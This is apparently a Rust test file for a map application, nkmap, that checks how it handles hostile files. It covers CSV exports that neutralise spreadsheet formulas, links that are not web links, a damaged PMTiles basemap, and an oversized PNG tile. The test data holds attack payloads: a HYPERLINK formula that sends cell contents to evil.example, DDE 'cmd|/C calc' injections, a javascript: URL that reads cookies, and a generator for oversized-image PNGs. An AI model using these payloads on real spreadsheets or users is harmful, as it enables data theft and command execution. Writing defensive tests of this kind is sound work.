//! Hostile files and links (issue 17), tried the way a user meets them: formula cells exported
//! to CSV by `nkmap export` and by *Export records as CSV*, links to programs and shares in a
//! source, and the crafted PMTiles basemap that used to take the app down.
#![cfg(feature = "gui")]

use egui::accesskit::Role;
use egui_kittest::Harness;
use egui_kittest::kittest::Queryable;
use nkmap::app::NkmapApp;
use nkmap::state::{Action, ExportKind, Selection};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

const HOSTILE: &str = "tests/data/hostile/formulas-and-links.geojson";
const BAD_PMTILES: &str = "tests/data/hostile/offsets-past-end.pmtiles";
const EVIL: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

fn data_file(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(rel)
}

fn nkmap(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_nkmap"))
        .args(args)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .env("LANG", "en_US.UTF-8")
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .output()
        .unwrap_or_else(|e| panic!("running nkmap: {e}"))
}

fn read(bytes: &[u8], label: &str) -> nkmap::model::Dataset {
    let geo = nkmap::bundled::geography().unwrap_or_else(|e| panic!("{e}"));
    let (data, diags) = nkmap::io::read_dataset(bytes, label, &geo, nkmap::bundled::seed_sources());
    assert!(!diags.iter().any(|d| d.is_error()), "{label}: {diags:?}");
    data
}

/// Every cell of a CSV export: none may start as a spreadsheet formula, the hostile ones are
/// quoted, and the file reads back into exactly the dataset it came from.
fn assert_safe_csv(csv: &[u8], expected: &nkmap::model::Dataset) {
    let mut reader = csv::ReaderBuilder::new().from_reader(csv);
    let mut cells = Vec::new();
    for row in reader.records() {
        let row = row.unwrap_or_else(|e| panic!("{e}"));
        cells.extend(row.iter().map(str::to_owned));
    }
    for c in &cells {
        assert!(
            !c.starts_with(['=', '+', '-', '@', '\t', '\r', '\0']),
            "a cell a spreadsheet would run: {c:?}"
        );
    }
    for quoted in [
        format!("'{EVIL}"),
        "'+cmd|' /C calc'!A0".to_owned(),
        "'@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
        "'-2+3 workers".to_owned(),
        "''=already quoted".to_owned(),
    ] {
        assert!(cells.contains(&quoted), "{quoted:?} not in {cells:?}");
    }
    let back = read(csv, "export.csv");
    assert_eq!(
        &back, expected,
        "the CSV export does not read back as it was"
    );
}

#[test]
fn nkmap_export_csv_quotes_formulas_and_reads_them_back() {
    let original = read(
        &std::fs::read(data_file(HOSTILE)).unwrap_or_else(|e| panic!("{e}")),
        HOSTILE,
    );
    assert_eq!(original.sites[0].name, EVIL);
    let out = nkmap(&["export", "--format", "csv", HOSTILE]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_safe_csv(&out.stdout, &original);
}

#[test]
fn nkmap_check_warns_about_links_that_are_not_web_links() {
    let out = nkmap(&["check", HOSTILE]);
    let text = String::from_utf8_lossy(&out.stdout);
    for url in [
        "file:///C:/Windows/System32/calc.exe",
        "smb://host/share",
        "javascript:alert(document.cookie)",
    ] {
        assert!(
            text.lines().any(|l| l.contains("warning")
                && l.contains(url)
                && l.contains("not a web address")),
            "no warning for {url}:\n{text}"
        );
    }
    assert!(!text.contains("https://example.org/report"), "{text}");
    // Warnings only: the file still loads.
    assert_eq!(out.status.code(), Some(0), "{text}");
}

fn harness(app: NkmapApp) -> Harness<'static, NkmapApp> {
    let mut h = Harness::builder()
        .with_size(egui::vec2(1600.0, 1200.0))
        .with_context_setup(nkmap::style::install_fonts)
        .build_ui_state(|ui, app: &mut NkmapApp| app.show(ui), app);
    h.run_steps(4);
    h
}

fn app_with(files: Vec<PathBuf>) -> NkmapApp {
    NkmapApp::new(None, files).unwrap_or_else(|e| panic!("the app did not start: {e}"))
}

fn step_until(h: &mut Harness<'_, NkmapApp>, done: impl Fn(&NkmapApp) -> bool) {
    let start = Instant::now();
    while !done(h.state()) {
        assert!(start.elapsed() < Duration::from_secs(30), "timed out");
        std::thread::sleep(Duration::from_millis(10));
        h.step();
    }
    h.run_steps(2);
}

fn hostile_app() -> Harness<'static, NkmapApp> {
    let mut h = harness(app_with(vec![data_file(HOSTILE)]));
    step_until(&mut h, |a| {
        a.state.layers.len() == 2 && a.loading.is_empty()
    });
    h
}

#[test]
fn export_records_as_csv_quotes_formulas_and_reads_them_back() {
    let mut h = hostile_app();
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let path = dir.path().join("records.csv");
    h.state_mut()
        .apply(Action::Export(ExportKind::RecordsCsv, path.clone()));
    h.run_steps(2);
    let csv = std::fs::read(&path).unwrap_or_else(|e| panic!("not written: {e}"));
    // The export holds every visible record (the seeds too): compare what the hostile file
    // brought, read back on its own.
    let back = read(&csv, "records.csv");
    let original = &h.state().state.layers[1].data;
    let site = back.sites.iter().find(|s| s.id == "site-evil");
    assert_eq!(site, original.sites.first());
    for s in &original.sources {
        assert_eq!(back.source(&s.id), Some(s));
    }
    let only_hostile = nkmap::model::Dataset {
        sources: original.sources.clone(),
        sites: original.sites.clone(),
        ..Default::default()
    };
    let mut rows = csv::Reader::from_reader(csv.as_slice());
    let header = rows.headers().cloned().unwrap_or_default();
    let id_col = header.iter().position(|h| h == "id").unwrap_or(0);
    let mut kept = csv::Writer::from_writer(Vec::new());
    let _ = kept.write_record(&header);
    for row in rows.records().flatten() {
        let id = row.get(id_col).unwrap_or("");
        if id.starts_with("s-") || id == "site-evil" {
            let _ = kept.write_record(&row);
        }
    }
    let kept = kept.into_inner().unwrap_or_default();
    assert_safe_csv(&kept, &only_hostile);
}

#[test]
fn only_web_links_are_clickable_in_the_details_panel() {
    let mut h = hostile_app();
    h.state_mut()
        .apply(Action::Select(Some(Selection::Site { layer: 1, index: 0 })));
    h.run_steps(3);
    assert!(
        h.query_by_role_and_label(Role::Link, "Web report")
            .is_some(),
        "the https source is a link"
    );
    for (title, url) in [
        ("+cmd|' /C calc'!A0", "file:///C:/Windows/System32/calc.exe"),
        ("Share on a server", "smb://host/share"),
        ("Script link", "javascript:alert(document.cookie)"),
    ] {
        assert!(
            h.query_by_role_and_label(Role::Link, title).is_none(),
            "{title} must not be a link"
        );
        h.get_by_label(title);
        h.get_by_label(&format!("Not a web link, not opened: {url}"));
    }
    // The hover shows where a link goes before anyone clicks.
    h.get_by_role_and_label(Role::Link, "Web report").hover();
    // Past egui's tooltip delay.
    h.run_steps(60);
    assert!(
        h.query_by_label("https://example.org/report").is_some(),
        "the hover shows the whole address"
    );
}

#[test]
fn the_issue_17_basemap_is_refused_with_a_message_and_the_app_keeps_running() {
    let mut h = harness(app_with(vec![]));
    h.state_mut()
        .apply(Action::SetBasemap(nkmap::basemap::BasemapChoice::PmTiles {
            path: data_file(BAD_PMTILES),
        }));
    h.run_steps(10);
    let status = h.state().basemap_status();
    let offline = status.offline.unwrap_or_default();
    assert!(offline.contains("damaged PMTiles"), "{offline}");
    let messages = &h.state().state.messages;
    assert!(
        messages.iter().any(|m| m.is_error
            && m.text.contains("offsets-past-end.pmtiles")
            && m.text.contains("root directory")),
        "{messages:?}"
    );
    // Still drawing: the map and its panels answer.
    h.run_steps(5);
    h.get_by_label("Fit country");
}

#[test]
fn the_issue_17_basemap_on_the_command_line_is_refused_not_a_crash() {
    let out = nkmap(&["--basemap", BAD_PMTILES]);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("--basemap:") && err.contains("damaged PMTiles") && err.contains("177 bytes"),
        "{err}"
    );
}

/// A PNG whose header claims `w` × `h` RGBA pixels, with almost no data after it.
fn png_claiming(w: u32, h: u32) -> Vec<u8> {
    fn crc32(bytes: &[u8]) -> u32 {
        let mut c = 0xFFFF_FFFFu32;
        for &b in bytes {
            c ^= u32::from(b);
            for _ in 0..8 {
                c = if c & 1 != 0 {
                    0xEDB8_8320 ^ (c >> 1)
                } else {
                    c >> 1
                };
            }
        }
        !c
    }
    fn chunk(out: &mut Vec<u8>, kind: &[u8], data: &[u8]) {
        out.extend((data.len() as u32).to_be_bytes());
        let mut body = kind.to_vec();
        body.extend(data);
        out.extend(&body);
        out.extend(crc32(&body).to_be_bytes());
    }
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = Vec::new();
    ihdr.extend(w.to_be_bytes());
    ihdr.extend(h.to_be_bytes());
    ihdr.extend([8, 6, 0, 0, 0]);
    chunk(&mut png, b"IHDR", &ihdr);
    // A zlib stream of a few zero bytes: the rest of the picture is missing.
    chunk(
        &mut png,
        b"IDAT",
        &[0x78, 0x9c, 0x63, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01],
    );
    chunk(&mut png, b"IEND", &[]);
    png
}

/// Answers every request with `body` as a PNG.
fn serve(body: Vec<u8>) -> String {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
    let port = listener.local_addr().map(|a| a.port()).unwrap_or(0);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let body = body.clone();
            std::thread::spawn(move || {
                let mut stream = stream;
                let mut buf = [0u8; 4096];
                let _ = stream.read(&mut buf);
                let head = format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    body.len()
                );
                let _ = stream.write_all(head.as_bytes());
                let _ = stream.write_all(&body);
            });
        }
    });
    format!("http://127.0.0.1:{port}/{{z}}/{{x}}/{{y}}.png")
}

#[test]
fn a_tile_claiming_100000_by_100000_pixels_is_refused_with_the_reason() {
    let url = serve(png_claiming(100_000, 100_000));
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let config = nkmap::basemap::BasemapConfig {
        osm_url: String::new(),
        cache_dir: Some(dir.path().join("tiles")),
        cache_limit: 1 << 30,
        prune_every: Duration::from_secs(60),
        stall_after: Duration::from_secs(1),
        probe_timeout: Duration::from_secs(5),
    };
    let mut h = harness(app_with(vec![]).with_basemap_config(config));
    h.state_mut()
        .apply(Action::SetBasemap(nkmap::basemap::BasemapChoice::Custom {
            url,
            attribution: "hostile".to_owned(),
        }));
    step_until(&mut h, |a| a.basemap_status().offline.is_some());
    let offline = h.state().basemap_status().offline.unwrap_or_default();
    assert!(
        offline.contains("100,000 × 100,000 pixels, too large"),
        "{offline}"
    );
    // No tile was drawn, and the app goes on.
    assert_eq!(h.state().basemap_status().drawn, 0);
    h.run_steps(5);
    h.get_by_label("Fit country");
}
